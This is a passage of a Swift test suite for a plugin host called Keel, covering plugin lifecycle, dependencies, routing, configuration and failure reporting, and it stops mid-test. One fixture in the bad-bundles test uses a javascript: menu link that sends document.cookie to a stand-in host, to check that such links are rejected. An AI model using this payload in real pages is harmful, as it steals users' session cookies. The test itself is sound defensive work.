// Keel — a microkernel plugin host. Licensed under Apache-2.0.

import Foundation
import Keel
import KeelLoader
import KeelRegistry
import KeelManifest
import KeelState
import Testing

/// A kernel on a temporary plugin folder and state file.
struct KernelFixture {
    let plugins: String
    let state: String
    let log = LogCollector()

    init() {
        let dir = TestEnvironment.makeTemporaryDirectory("kernel")
        plugins = dir + "/plugins"
        state = dir + "/state.db"
        try? FileManager.default.createDirectory(atPath: plugins, withIntermediateDirectories: true)
    }

    func kernel(probe: PluginProbe? = nil, budgets: CallBudgets = .default, copiesInMemory: Bool = true,
                workerExecutable: String? = nil, startsIdle: Bool = false, libraryStampMargin: Double = 2,
                staleCopies: StaleCopyLimits = .default) throws -> Kernel {
        let log = self.log
        var configuration = KernelConfiguration(pluginsDirectory: plugins, stateFile: state) { log.append($0.description) }
        configuration.startsIdle = startsIdle
        configuration.copiesInMemory = copiesInMemory
        configuration.libraryStampMargin = libraryStampMargin
        configuration.staleCopies = staleCopies
        configuration.workerExecutable = workerExecutable
        configuration.probe = probe
        configuration.budgets = budgets
        configuration.trustedCapabilities = Set(Capability.allCases) // grants have their own tests
        return try Kernel(configuration: configuration)
    }

    func fixtureBundle(_ id: String, defines: [String] = [], capabilities: [String] = ["routes", "menus", "authenticate", "authorize"],
                       version: String = "1.0.0", extra: String = "") throws {
        let lib = try TestEnvironment.buildFixture(id, ["PLUGIN_ID=\"\(id)\"", "PLUGIN_VERSION=\"\(version)\""] + defines)
        try TestEnvironment.makeBundle(in: plugins, folder: id, manifest: TestEnvironment.manifest(
            id: id, version: version, library: "lib\(id).so", capabilities: capabilities, extra: extra), library: lib)
    }
}

func get(_ kernel: Kernel, _ path: String, method: String = "GET", headers: [(name: String, value: String)] = []) -> (Int, String)? {
    let snapshot = kernel.registry.snapshot
    guard let match = snapshot.route(method: method, path: path) else { return nil }
    var request = PluginRequest(method: method, path: path, routePath: match.routePath, headers: headers,
                                parameters: match.parameters)
    switch kernel.access.identify(request, snapshot: snapshot) {
    case let .success(p): request.principal = p
    case .failure: return (401, "")
    }
    switch match.route.handler.handle(request) {
    case let .success(r): return (r.status, r.bodyText)
    case .failure: return (500, "")
    }
}

@Suite("kernel", .scheduled)
struct KernelTests {
    @Test("the example plugins in C and Swift load, register and answer")
    func examples() async throws {
        let f = KernelFixture()
        try TestEnvironment.stageExamples(into: f.plugins)
        let kernel = try f.kernel()
        await kernel.start()
        #expect(try await kernel.plugins().map(\.status) == [.installed, .installed])
        try await kernel.enable("hello")
        try await kernel.enable("greeter")
        #expect(kernel.activePlugins == ["hello", "greeter"])

        let hello = try await kernel.plugin("hello")
        #expect(hello.status == .enabled)
        #expect(hello.routes == ["GET /ext/hello/greet/:name"])
        #expect(hello.menus.sorted() == ["hello.greet", "hello.main"])
        #expect(hello.authenticators == ["demo-key"])
        let greeter = try await kernel.plugin("greeter")
        #expect(greeter.routes.sorted() == ["GET /ext/greeter/", "GET /ext/greeter/hello/:name", "GET /ext/greeter/secret", "GET /ext/greeter/whoami"])
        #expect(greeter.authorizers == ["no-mallory"])

        #expect(get(kernel, "/ext/hello/greet/bob")?.1 == "hello, bob (as anonymous)\n")
        #expect(get(kernel, "/ext/hello/greet/bob", headers: [("authorization", "Bearer hello-demo-key")])?.1 == "hello, bob (as demo)\n")
        #expect(get(kernel, "/ext/greeter/hello/ada")?.1 == "Hello, ada! (from Swift)\n")
        let whoami = get(kernel, "/ext/greeter/whoami", headers: [("authorization", "Bearer hello-demo-key")])
        #expect(whoami?.1 == #"{"id":"demo","anonymous":false,"tenant":"default","roles":["viewer"]}"#)

        let tree = kernel.registry.snapshot.menuTree()
        #expect(tree.map(\.id) == ["hello.main", "greeter.hello"])
        #expect(tree[0].children.map(\.id) == ["hello.greet"])

        let snapshot = kernel.registry.snapshot
        #expect(snapshot.authorize(Principal(id: "mallory", authenticatedBy: "t"), action: "GET", resource: "/x").0 == .deny)
        #expect(snapshot.authorize(Principal(id: "ada", authenticatedBy: "t"), action: "GET", resource: "/x").0 == .abstain)
        await kernel.shutdown()
        #expect(f.log.lines.contains("keel: info: [hello] hello activated"))
    }

    @Test("the hello example takes its API key from its configuration, checked against its schema")
    func helloConfiguration() async throws {
        let f = KernelFixture()
        try TestEnvironment.stageExamples(into: f.plugins)
        let kernel = try f.kernel()
        await kernel.start()
        try await kernel.enable("hello")
        func caller(_ key: String) -> String? { get(kernel, "/ext/hello/greet/bob", headers: [("authorization", "Bearer " + key)])?.1 }
        #expect(caller("hello-demo-key") == "hello, bob (as demo)\n")
        try await kernel.setConfig("hello", yaml: "api_key: s3cret-key\n", file: "hello.yaml")
        #expect(caller("s3cret-key") == "hello, bob (as demo)\n")
        #expect(caller("hello-demo-key") == "hello, bob (as anonymous)\n")
        do { try await kernel.setConfig("hello", yaml: "api_key: 5\n", file: "bad.yaml"); Issue.record("accepted a number") } catch {
            #expect(error.description.contains("api_key"), "\(error)")
            #expect(error.description.contains("expected string"), "\(error)")
        }
        do { try await kernel.setConfig("hello", yaml: "api-key: x\n", file: "typo.yaml"); Issue.record("accepted a typo") } catch {
            #expect(error.description.contains("not allowed by the plugin's schema"), "\(error)")
        }
        // A value the plugin itself refuses: the previous configuration keeps serving.
        do { try await kernel.setConfig("hello", yaml: "api_key: 'a\\\\b'\n", file: "escape.yaml"); Issue.record("accepted a backslash") } catch {
            #expect(error.description.contains("without quotes or backslashes"), "\(error)")
        }
        #expect(caller("s3cret-key") == "hello, bob (as demo)\n")
        await kernel.shutdown()
        // The configuration is stored: a new kernel hands it to the plugin again.
        let again = try f.kernel()
        await again.start()
        #expect(get(again, "/ext/hello/greet/bob", headers: [("authorization", "Bearer s3cret-key")])?.1 == "hello, bob (as demo)\n")
        await again.shutdown()
    }

    @Test("a kernel that shut down is released whole, its state store with it, although the libraries of its plugins stay mapped for the life of the process (an embedder opening and closing kernels kept about 300 KB each)")
    func shutDownKernelReleased() async throws {
        let f = KernelFixture()
        try TestEnvironment.stageExamples(into: f.plugins)
        try TestEnvironment.grantSensitive("hello", plugins: f.plugins, state: f.state)
        weak var store: StateStore?
        do {
            let kernel = try f.kernel()
            await kernel.start()
            try await kernel.enable("hello")  // not unload-safe: its library, and its activation's context, stay
            #expect(get(kernel, "/ext/hello/greet/x")?.0 == 200)
            store = kernel.state
            await kernel.shutdown()
        }
        #expect(await waitFor(5) { store == nil }, "the stopped kernel's state store is still alive")
    }

    @Test("a state named through a link, even before the file it names exists, has one lock whatever name reaches it: taken through the link, it is found and refused through the file's own name once made")
    func lockFollowsLinks() throws {
        let dir = TestEnvironment.makeTemporaryDirectory("lock-link")
        try FileManager.default.createDirectory(atPath: dir + "/data", withIntermediateDirectories: true)
        #expect(symlink("data/state.db", dir + "/state.db") == 0)  // dangling: the state is made at the first start
        let lock = try ServerLock(stateFile: dir + "/state.db", info: "http://127.0.0.1:1")
        FileManager.default.createFile(atPath: dir + "/data/state.db", contents: nil)
        #expect(ServerLock.running(stateFile: dir + "/data/state.db") == "pid \(getpid()) http://127.0.0.1:1")
        #expect(ServerLock.running(stateFile: dir + "/state.db") == "pid \(getpid()) http://127.0.0.1:1")
        var refused = ""
        do { _ = try ServerLock(stateFile: dir + "/data/state.db", info: "second") } catch { refused = error.description }
        #expect(refused.contains("another keel server is using it"), "\(refused)")
        _ = lock
    }

    @Test("a new kernel on the same state file brings back the same enabled set")
    func restart() async throws {
        let f = KernelFixture()
        try TestEnvironment.stageExamples(into: f.plugins)
        try f.fixtureBundle("third")
        do {
            let kernel = try f.kernel()
            await kernel.start()
            try await kernel.enable("hello")
            try await kernel.enable("third")
            try await kernel.disable("third")
            try await kernel.enable("greeter")
            await kernel.shutdown()
        }
        let again = try f.kernel()
        await again.start()
        #expect(again.activePlugins == ["hello", "greeter"])
        let statuses = try await again.plugins().map { "\($0.id)=\($0.status.rawValue)" }
        #expect(statuses == ["greeter=enabled", "hello=enabled", "third=disabled"])
        #expect(get(again, "/ext/greeter/hello/x")?.0 == 200)
        let history = try again.state.events(for: "third").map(\.kind)
        #expect(history == ["discovered", "enable", "enabled", "disable"])
        #expect(try again.state.integrityCheck() == "ok")
        await again.shutdown()
    }

    @Test("disabling removes every route, menu entry and hook of the plugin at once")
    func teardown() async throws {
        let f = KernelFixture()
        try f.fixtureBundle("alpha", defines: ["MENU_ID=\"alpha.menu\"", "AUTH_MODE=1", "AUTHZ_MODE=2", "EXTRA_ROUTES=3"])
        try f.fixtureBundle("beta", defines: ["MENU_ID=\"beta.menu\""])
        let kernel = try f.kernel()
        await kernel.start()
        try await kernel.enable("alpha")
        try await kernel.enable("beta")
        var snapshot = kernel.registry.snapshot
        #expect(snapshot.routes.filter { $0.pluginID == "alpha" }.count == 4)
        #expect(snapshot.authenticators.count == 1 && snapshot.authorizers.count == 1)
        // The hook names tenant "acme", which does not exist here: the caller keeps its id with anonymous rights.
        #expect(get(kernel, "/ext/alpha/ping", headers: [("authorization", "Bearer zoe")])?.1.contains("who=zoe tenant=default anon=0") == true)
        try await kernel.createTenant("acme")
        #expect(get(kernel, "/ext/alpha/ping", headers: [("authorization", "Bearer zoe")])?.1.contains("who=zoe tenant=acme anon=0") == true)

        try await kernel.disable("alpha")
        snapshot = kernel.registry.snapshot
        #expect(snapshot.routes.map(\.pluginID) == ["beta"])
        #expect(snapshot.menuTree().map(\.id) == ["beta.menu"])
        #expect(snapshot.authenticators.isEmpty && snapshot.authorizers.isEmpty)
        #expect(get(kernel, "/ext/alpha/ping") == nil)
        #expect(get(kernel, "/ext/beta/ping")?.0 == 200)
        #expect(try await kernel.plugin("alpha").status == .disabled)
        await kernel.shutdown()
    }

    @Test("a handler kept from a disabled plugin refuses the call instead of running")
    func staleHandler() async throws {
        let f = KernelFixture()
        try f.fixtureBundle("gamma")
        let kernel = try f.kernel()
        await kernel.start()
        try await kernel.enable("gamma")
        let match = try #require(kernel.registry.snapshot.route(method: "GET", path: "/ext/gamma/ping"))
        try await kernel.disable("gamma")
        guard case let .failure(error) = match.route.handler.handle(PluginRequest(method: "GET", path: "/ext/gamma/ping")) else {
            Issue.record("a deactivated plugin's handler ran")
            return
        }
        #expect(error.status == StatusCode.unavailable)
    }

    @Test("an authenticate hook kept from a disabled plugin (a request that looked it up just before) abstains: the caller is anonymous, not denied; an authorize hook so kept still denies")
    func staleHooks() async throws {
        let f = KernelFixture()
        try f.fixtureBundle("idp", defines: ["AUTH_MODE=3"])
        try f.fixtureBundle("guard", defines: ["AUTHZ_MODE=1"])
        try TestEnvironment.grantSensitive("idp", plugins: f.plugins, state: f.state)
        try TestEnvironment.grantSensitive("guard", plugins: f.plugins, state: f.state)
        let kernel = try f.kernel()
        await kernel.start()
        try await kernel.enable("idp")
        try await kernel.enable("guard")
        let before = kernel.registry.snapshot
        let request = PluginRequest(method: "GET", path: "/ext/other/x", headers: [(name: "authorization", value: "Bearer ann")])
        guard case let .success(named) = before.authenticate(request) else { Issue.record("the hook failed"); return }
        #expect(named.id == "ann")
        try await kernel.disable("idp")
        try await kernel.disable("guard")
        guard case let .success(after) = before.authenticate(request) else { Issue.record("a stopped plugin's authenticate hook denied"); return }
        #expect(after.isAnonymous)
        #expect(before.authorize(after, action: "GET", resource: "/ext/other/x").0 == .deny)
    }

    @Test("bad bundles end failed with their reason while the others keep working")
    func badBundles() async throws {
        let f = KernelFixture()
        try TestEnvironment.stageExamples(into: f.plugins)
        try f.fixtureBundle("fails", defines: ["ACTIVATE_FAILS"])
        try f.fixtureBundle("dup", defines: ["MENU_ID=\"hello.main\""])
        try f.fixtureBundle("twice", defines: ["REGISTER_TWICE"])
        try f.fixtureBundle("badlink", defines: ["MENU_ID=\"badlink.main\"", "MENU_LINK=\"javascript:fetch('//evil.example/'+document.cookie)\""])
        try f.fixtureBundle("nocap", capabilities: ["menus"])
        try f.fixtureBundle("toomany", defines: ["EXTRA_ROUTES=300"])
        try TestEnvironment.makeBundle(in: f.plugins, folder: "broken", manifest: "id: broken\nname: [\n", library: nil)
        try TestEnvironment.makeBundle(in: f.plugins, folder: "liar", manifest: TestEnvironment.manifest(id: "liar", library: "libhello-c.so"),
                                       library: try TestEnvironment.builtLibrary("libhello-c.so"))
        try TestEnvironment.makeBundle(in: f.plugins, folder: "nolib", manifest: TestEnvironment.manifest(id: "nolib", library: "libnolib.so"), library: nil)
        // The host's own name: a plugin "keel" would pass for the host as a sign-in, a service provider and a lane.
        try TestEnvironment.makeBundle(in: f.plugins, folder: "keel", manifest: TestEnvironment.manifest(id: "keel", library: "libhello-c.so"),
                                       library: try TestEnvironment.builtLibrary("libhello-c.so"))
        try FileManager.default.createDirectory(atPath: f.plugins + "/empty-folder", withIntermediateDirectories: true)
        let kernel = try f.kernel()
        await kernel.start()
        try await kernel.enable("hello")
        for id in ["fails", "dup", "twice", "badlink", "nocap", "toomany", "liar", "nolib"] {
            await #expect(throws: KernelError.self, "\(id)") { try await kernel.enable(id) }
        }
        try await kernel.enable("greeter")
        let byID = Dictionary(uniqueKeysWithValues: try await kernel.plugins().map { ($0.id, $0) })
        func reason(_ id: String) -> String { byID[id]?.reason ?? "<none>" }
        #expect(byID["hello"]?.status == .enabled && byID["greeter"]?.status == .enabled)
        #expect(reason("fails").hasSuffix("activate returned KEEL_ERR_UNAVAILABLE: cannot reach the frobnicator"))
        #expect(reason("dup").contains("menu entry \"hello.main\" of plugin \"dup\" is already registered by plugin \"hello\""))
        #expect(reason("twice").contains("conflicts with GET /ping of the same plugin \"twice\""))
        #expect(reason("badlink").contains("menu entry \"badlink.main\": the link must be a console path starting with \"/\" or an http(s) URL, not \"javascript:fetch("))
        #expect(reason("nocap").contains("capability \"routes\" was not granted"))
        #expect(reason("toomany").contains("over the limit of 256 routes per plugin"))
        #expect(reason("broken").hasPrefix(f.plugins + "/broken/plugin.yaml:2: not valid YAML"))
        #expect(reason("liar").contains("library says id \"hello\" but \(f.plugins)/liar/plugin.yaml says \"liar\""))
        #expect(reason("nolib") == "\(f.plugins)/nolib/plugin.yaml: key \"library\": libnolib.so is not in \(f.plugins)/nolib", "\(reason("nolib"))")
        #expect(reason("empty-folder") == "\(f.plugins)/empty-folder/plugin.yaml: missing: a plugin bundle needs a plugin.yaml")
        #expect(reason("bundle-keel").hasPrefix("\(f.plugins)/keel/plugin.yaml:1: key \"id\": \"keel\" is the host's own name: no plugin may take it"),
                "\(reason("bundle-keel"))")
        #expect(byID["keel"] == nil)
        for id in ["fails", "dup", "twice", "badlink", "nocap", "toomany", "broken", "liar", "nolib", "empty-folder", "bundle-keel"] {
            #expect(byID[id]?.status == .failed, "\(id)")
            #expect(byID[id]?.routes.isEmpty == true, "\(id) left routes behind")
        }
        // Nothing half-registered: the failed ones own nothing; the good ones still answer.
        #expect(kernel.registry.snapshot.routes.map(\.pluginID).sorted() == ["greeter", "greeter", "greeter", "greeter", "hello"])
        #expect(get(kernel, "/ext/hello/greet/x")?.0 == 200)
        await kernel.shutdown()
    }


    @Test("a failed enable logs its reason once: the command's own line says it failed, as logged above; a refusal logged nowhere else keeps its reason")
    func failedEnableLoggedOnce() async throws {
        let f = KernelFixture()
        try f.fixtureBundle("fails", defines: ["ACTIVATE_FAILS"])
        let kernel = try f.kernel()
        await kernel.start()
        var thrown: KernelError?
        do { try await kernel.execute(.enable(id: "fails", tenant: nil), actor: "cli") } catch { thrown = error }
        let reason = try #require(thrown).reason
        #expect(reason.hasSuffix("cannot reach the frobnicator"))
        #expect(f.log.lines.filter { $0.contains(reason) }.count == 1, "\(f.log.lines)")
        #expect(f.log.lines.contains { $0.contains("cli: enable fails: failed (\(thrown?.code.description ?? "")), as logged above") },
                "\(f.log.lines)")
        // Not logged by anything else: the command's line carries the reason.
        await #expect(throws: KernelError.self) { try await kernel.execute(.enable(id: "nosuch", tenant: nil), actor: "cli") }
        #expect(f.log.lines.contains { $0.contains("[nosuch] cli: enable nosuch: no plugin \"nosuch\"") }, "\(f.log.lines)")
        // A reason logged for another plugin (a lazy dependency woken for it) is said again on the command's line,
        // naming that plugin.
        try f.fixtureBundle("dep", defines: ["ACTIVATE_FAILS"], capabilities: ["routes"], extra: "activation: lazy\n")
        try f.fixtureBundle("top", capabilities: ["routes"], extra: "dependencies:\n  dep: \"*\"")
        try await kernel.execute(.enable(id: "dep", tenant: nil), actor: "cli")
        var topError: KernelError?
        do { try await kernel.execute(.enable(id: "top", tenant: nil), actor: "cli") } catch { topError = error }
        let topReason = try #require(topError).reason
        #expect(topReason.hasPrefix(#"plugin "top" needs plugin "dep", which could not be activated: plugin "dep" ("#)
                && topReason.hasSuffix("cannot reach the frobnicator"), "\(topReason)")
        #expect(f.log.lines.contains { $0.contains("[top] cli: enable top: \(topReason)") }, "\(f.log.lines)")
        #expect(f.log.lines.contains { $0.contains("[dep] plugin \"dep\" (") && $0.hasSuffix("cannot reach the frobnicator") },
                "logged for the dependency first: \(f.log.lines)")
        // A command call's failure names its plugin too (`keel call` from the CLI was logged without it).
        await #expect(throws: KernelError.self) { try await kernel.execute(.call(plugin: "fails", command: "go", arguments: []), actor: "cli") }
        #expect(f.log.lines.contains { $0.hasPrefix("keel: warning: [fails] cli: call fails.go: failed (") }, "\(f.log.lines)")
        await kernel.shutdown()
    }

    @Test("two bundles with the same id are both refused, naming each other")
    func duplicateIDs() async throws {
        let f = KernelFixture()
        let lib = try TestEnvironment.buildFixture("same")
        try TestEnvironment.makeBundle(in: f.plugins, folder: "a", manifest: TestEnvironment.manifest(id: "fixture", library: "libsame.so"), library: lib)
        try TestEnvironment.makeBundle(in: f.plugins, folder: "b", manifest: TestEnvironment.manifest(id: "fixture", library: "libsame.so"), library: lib)
        let kernel = try f.kernel()
        await kernel.start()
        await #expect(throws: KernelError.self) { try await kernel.enable("fixture") }
        let info = try await kernel.plugin("fixture")
        #expect(info.status == .failed)
        #expect(info.reason?.contains("duplicate plugin id \"fixture\", also declared in") == true)
    }

    @Test("enable: refused for a dependency that cannot start further down; not for what only a running host can judge (safe mode, an interface the embedding program may offer); no tenant written first")
    func enableRefusalEdges() async throws {
        let f = KernelFixture()
        try f.fixtureBundle("top", extra: "dependencies:\n  middle: \"*\"")
        try f.fixtureBundle("middle", extra: "dependencies:\n  ghost: \"*\"")
        try f.fixtureBundle("base")
        try f.fixtureBundle("child", extra: "dependencies:\n  base: \"*\"")
        try f.fixtureBundle("gpio-user", extra: "consumes: [{interface: appliance.gpio, version: \"^1\"}]\n")
        try f.fixtureBundle("gpio-driver", extra: "provides:\n  - interface: appliance.gpio/1\n")
        let first = try f.kernel()
        await first.start()
        // Left so by an earlier host: middle wanted (and failed, ghost is not installed), base wanted.
        for id in ["middle", "base"] { try first.state.setEnabled(id, true, status: .installed) }
        await first.shutdown()

        // A CLI's one-command kernel: middle is there (stored enabled) but cannot start, two levels down.
        let cli = try f.kernel(startsIdle: true)
        await cli.start()
        do { try await cli.enable("top"); Issue.record("enabled over a dependency that cannot start") } catch {
            #expect(error.description == "plugin \"top\" needs \"middle\", which cannot start: plugin \"middle\" needs \"ghost\" *, which is not installed")
        }
        #expect(try cli.state.plugin("top")?.enabled == false)
        // An interface may be the embedding program's, which this kernel cannot see, even where an installed plugin
        // (gpio-driver, disabled) provides it too: the wish is stored (its activation here fails, as before).
        _ = try? await cli.enable("gpio-user")
        #expect(try cli.state.plugin("gpio-user")?.enabled == true)
        try cli.state.setEnabled("gpio-user", false, status: .disabled)
        await cli.shutdown()

        // Safe mode runs nothing, base included: child's dependency is enabled all the same, and the wish is kept.
        let safe = try f.kernel()
        await safe.start(safeMode: true)
        _ = try? await safe.enable("child")
        #expect(try safe.state.plugin("child")?.enabled == true)
        await safe.shutdown()

        // A host that runs its plugins judges the interface itself; and a bundle not yet scanned is found before a
        // tenant is written for it.
        let kernel = try f.kernel()
        await kernel.start()
        do { try await kernel.enable("gpio-user"); Issue.record("enabled without a provider") } catch {
            #expect(error.description == "plugin \"gpio-user\" needs interface appliance.gpio/1 ^1, which no enabled plugin provides (enable one of \"gpio-driver\")")
        }
        try await kernel.execute(.createTenant(name: "acme"))
        try f.fixtureBundle("late", extra: "dependencies:\n  ghost: \"*\"")
        for id in ["late", "nowhere"] {
            do { try await kernel.execute(.enable(id: id, tenant: "acme")); Issue.record("enabled \(id)") } catch {
                #expect(error.code == (id == "late" ? .dependency : .unknownPlugin), "\(error)")
            }
            #expect(try kernel.state.directory().pluginTenants[id] == nil, "\(id)")
        }
        await kernel.shutdown()
    }

    @Test("dependencies: order, missing, wrong version, disabled, cascade, cycles")
    func dependencies() async throws {
        let f = KernelFixture()
        try TestEnvironment.stageExamples(into: f.plugins)
        try f.fixtureBundle("needs-new", extra: "dependencies:\n  hello: \"^2.0\"")
        try f.fixtureBundle("needs-ghost", extra: "dependencies:\n  ghost: \"*\"")
        try f.fixtureBundle("cyc-a", extra: "dependencies:\n  cyc-b: \"*\"")
        try f.fixtureBundle("cyc-b", extra: "dependencies:\n  cyc-a: \"*\"")
        let kernel = try f.kernel()
        await kernel.start()
        let before = try kernel.state.plugin("greeter")
        for tenant in [nil, "acme"] as [String?] {
            if tenant != nil { try await kernel.execute(.createTenant(name: "acme")) }
            do { try await kernel.execute(.enable(id: "greeter", tenant: tenant)); Issue.record("enabled without its dependency") } catch {
                #expect(error.description == "plugin \"greeter\" needs \"hello\", which is not enabled")
            }
        }
        // Refused, nothing stored: not left wanted and failed (greeter's authorize hook then closed the host to every
        // request, and it stayed failed after hello was enabled), and not enabled for the tenant.
        #expect(try kernel.state.plugin("greeter") == before)
        #expect(kernel.registry.snapshot.missingGuards.isEmpty)
        #expect(try kernel.state.directory().pluginTenants["greeter"] == nil)
        do { try await kernel.enable("needs-new"); Issue.record("enabled") } catch {
            #expect(error.description == "plugin \"needs-new\" needs \"hello\" ^2.0, but 1.0.0 is installed")
        }
        do { try await kernel.enable("needs-ghost"); Issue.record("enabled") } catch {
            #expect(error.description == "plugin \"needs-ghost\" needs \"ghost\" *, which is not installed")
        }
        try await kernel.enable("hello")
        try await kernel.enable("greeter")
        do { try await kernel.disable("hello"); Issue.record("disabled a needed plugin") } catch {
            #expect(error.description.contains("needed by enabled plugin(s) \"greeter\""))
        }
        let cascaded = try await kernel.execute(.disable(id: "hello", tenant: nil, cascade: true))
        #expect(cascaded.note == "also disabled, as they need it: greeter", "the answer names what the cascade took down")
        #expect(kernel.activePlugins.isEmpty)
        // Both want to start: dependency order decides, whatever the names say.
        try await kernel.enable("hello")
        try await kernel.enable("greeter")
        await kernel.shutdown()
        try kernel.state.setEnabled("cyc-a", true, status: .installed)
        try kernel.state.setEnabled("cyc-b", true, status: .installed)
        let again = try f.kernel()
        await again.start()
        #expect(again.activePlugins == ["hello", "greeter"])
        #expect(try await again.plugin("cyc-a").reason == "dependency cycle: cyc-a → cyc-b → cyc-a")
        #expect(try await again.plugin("cyc-b").status == .failed)
        await again.shutdown()
    }

    @Test("a path reaches the most specific route: literal over parameter over *, exact method over *")
    func routeSpecificity() async throws {
        let f = KernelFixture()
        try f.fixtureBundle("routes", defines: ["ROUTE_SET"])
        let kernel = try f.kernel()
        await kernel.start()
        try await kernel.enable("routes")
        func via(_ path: String, _ method: String = "GET") -> String? {
            guard let (status, body) = get(kernel, "/ext/routes" + path, method: method), status == 200 else { return nil }
            return body.split(separator: " ").first { $0.hasPrefix("via=") }.map { String($0.dropFirst(4)) } ?? "none"
        }
        #expect(via("/items/special") == "literal")
        #expect(via("/items/42") == "param")
        #expect(get(kernel, "/ext/routes/items/42")?.1.contains("params=1 id=42") == true)
        #expect(via("/items/42/detail") == "two-params")
        #expect(via("/items/42/detail/more") == "rest")
        #expect(get(kernel, "/ext/routes/items/42/detail/more")?.1.contains("*=42/detail/more") == true)
        #expect(via("/items/special", "HEAD") == "literal")
        #expect(via("/things/special", "POST") == "post-literal")
        #expect(via("/things/special") == "any-method")
        #expect(via("/things/7", "DELETE") == "any-method")
        #expect(via("/ping") == "none")
        #expect(via("/nothing/here") == nil)
        #expect(get(kernel, "/ext/routes/items/42", method: "POST") == nil)
        await kernel.shutdown()
    }

    @Test("start-up with many plugins: a failed dependency fails its dependents with the reason, the rest activate")
    func batchStart() async throws {
        let f = KernelFixture()
        try f.fixtureBundle("base", defines: ["ACTIVATE_FAILS"])
        try f.fixtureBundle("child", extra: "dependencies:\n  base: \"*\"")
        try f.fixtureBundle("grandchild", extra: "dependencies:\n  child: \"*\"")
        let ids = (0..<150).map { String(format: "p%03d", $0) }
        let template = try TestEnvironment.buildFixture("many", ["PLUGIN_ID=\"p000\"", "ROUTE_PATH=\"/ping\""])
        let bytes = try Data(contentsOf: URL(fileURLWithPath: template))
        for id in ids {
            // Same code, its own id: the descriptor's id string is patched in place.
            var copy = bytes
            var found = copy.range(of: Data("p000".utf8))
            while let r = found {
                copy.replaceSubrange(r, with: Data(id.utf8))
                found = copy.range(of: Data("p000".utf8), in: r.upperBound..<copy.count)
            }
            let lib = (f.state as NSString).deletingLastPathComponent + "/lib-\(id).so"
            try copy.write(to: URL(fileURLWithPath: lib))
            try TestEnvironment.makeBundle(in: f.plugins, folder: id, manifest: TestEnvironment.manifest(
                id: id, library: "lib.so", capabilities: ["routes"]), library: lib, libraryName: "lib.so")
        }
        let first = try f.kernel()
        await first.start()
        for id in ids + ["base", "child", "grandchild"] { try first.state.setEnabled(id, true, status: .installed) }
        await first.shutdown()

        let kernel = try f.kernel()
        await kernel.start()
        #expect(Set(kernel.activePlugins) == Set(ids))
        for id in ["p000", "p077", "p149"] { #expect(get(kernel, "/ext/\(id)/ping")?.1.hasPrefix("\(id) ") == true) }
        #expect(try await kernel.plugin("base").status == .failed)
        #expect(try await kernel.plugin("base").reason?.isEmpty == false)
        // Enabled, but not running: said so, with why (not "not enabled").
        let baseReason = try await kernel.plugin("base").reason ?? ""
        let childReason = "plugin \"child\" needs \"base\", which is enabled but not running (failed: \(baseReason))"
        #expect(try await kernel.plugin("child").reason == childReason)
        #expect(try await kernel.plugin("grandchild").reason == "plugin \"grandchild\" needs \"child\", which is enabled but not running (failed: \(childReason))")
        // Every active plugin's load is in its history, numbered from 1.
        #expect(try await kernel.history("p149").map(\.outcome) == ["activated"])
        await kernel.shutdown()
    }

    @Test("an unknown id is a clear error and changes nothing")
    func unknown() async throws {
        let f = KernelFixture()
        let kernel = try f.kernel()
        await kernel.start()
        do { try await kernel.enable("nope"); Issue.record("enabled") } catch {
            #expect(error.code == .unknownPlugin)
            #expect(error.description == "no plugin \"nope\" in the plugin folder")
        }
        #expect(try await kernel.plugins().isEmpty)
        await kernel.shutdown()
        // A kernel given bundle folders alone (an embedder's) has no plugin folder to name.
        try f.fixtureBundle("given")
        var configuration = KernelConfiguration(pluginsDirectory: "", stateFile: StateStore.inMemory)
        configuration.bundleFolders = [f.plugins + "/given"]
        let bundlesOnly = try Kernel(configuration: configuration)
        await bundlesOnly.start()
        do { try await bundlesOnly.enable("nope"); Issue.record("enabled") } catch {
            #expect(error.description == "no plugin \"nope\" among the bundle folders given")
        }
        await bundlesOnly.shutdown()
    }

    @Test("a kernel whose plugin folder is not there says so once at start, and that its enabled plugins are recorded missing")
    func missingPluginFolder() async throws {
        let f = KernelFixture()
        try f.fixtureBundle("gone")
        let setup = try f.kernel()
        await setup.start()
        try await setup.enable("gone")
        await setup.shutdown()
        try FileManager.default.moveItem(atPath: f.plugins, toPath: f.plugins + "-elsewhere")
        let kernel = try f.kernel()
        await kernel.start()
        let said = f.log.lines.filter { $0.contains("the plugin folder \(f.plugins) does not exist") }
        #expect(said.count == 1 && said.first?.contains("the enabled ones are recorded missing") == true, "\(f.log.lines.suffix(5))")
        #expect(try await kernel.plugin("gone").status == .missing)
        await kernel.shutdown()
    }

    @Test("a reload the operator asks for that fails tells its caller the previous generation keeps serving")
    func failedReloadSaysWhoServes() async throws {
        let f = KernelFixture()
        try f.fixtureBundle("steady")
        let kernel = try f.kernel()
        await kernel.start()
        try await kernel.enable("steady")
        let library = try #require(FileManager.default.contentsOfDirectory(atPath: f.plugins + "/steady").first { $0.hasSuffix(".so") })
        try FileManager.default.removeItem(atPath: f.plugins + "/steady/" + library)
        try Data("not a library".utf8).write(to: URL(fileURLWithPath: f.plugins + "/steady/" + library))
        do {
            try await kernel.execute(.reload(id: "steady"))
            Issue.record("a reload of a broken build succeeded")
        } catch {
            #expect(error.reason.hasSuffix("(generation 1 keeps serving)"), "\(error.reason)")
        }
        #expect(kernel.activePlugins.contains("steady"))
        await kernel.shutdown()
    }

    @Test("a reload of a running plugin whose bundle was removed stops it, records it missing, and says so")
    func reloadOfRemovedBundle() async throws {
        let f = KernelFixture()
        try f.fixtureBundle("fleeting")
        let kernel = try f.kernel()
        await kernel.start()
        try await kernel.enable("fleeting")
        try FileManager.default.removeItem(atPath: f.plugins + "/fleeting")
        do {
            try await kernel.reload("fleeting")
            Issue.record("the reload of a removed bundle succeeded")
        } catch {
            #expect(error.code == .unknownPlugin && error.reason.hasPrefix("no plugin \"fleeting\" in the plugin folder any more: ")
                    && error.reason.hasSuffix("its bundle is gone, so the build that was serving was stopped (recorded missing)"), "\(error.reason)")
        }
        #expect(!kernel.activePlugins.contains("fleeting"))
        #expect(try await kernel.plugin("fleeting").status == .missing)
        do { try await kernel.reload("fleeting"); Issue.record("reloaded") } catch {
            #expect(!error.reason.contains("was stopped"), "nothing was running the second time: \(error.reason)")
        }
        await kernel.shutdown()
    }

    @Test("a removed bundle is recorded as missing, and comes back when restored")
    func missingBundle() async throws {
        let f = KernelFixture()
        try f.fixtureBundle("ephemeral")
        let kernel = try f.kernel()
        await kernel.start()
        try await kernel.enable("ephemeral")
        await kernel.shutdown()
        try FileManager.default.moveItem(atPath: f.plugins + "/ephemeral", toPath: f.plugins + "/../ephemeral-away")
        let k2 = try f.kernel()
        await k2.start()
